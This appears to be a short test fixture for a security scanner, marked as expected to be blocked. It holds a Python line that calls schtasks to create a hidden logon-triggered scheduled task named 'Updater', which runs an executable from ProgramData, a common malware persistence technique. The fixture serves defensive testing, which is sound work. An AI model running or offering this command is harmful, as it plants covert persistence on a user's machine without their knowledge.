# expect: block
import subprocess
subprocess.run(["schtasks", "/create", "/sc", "onlogon", "/tn", "Updater", "/tr", "C:\\ProgramData\\u.exe", "/f"], check=False)
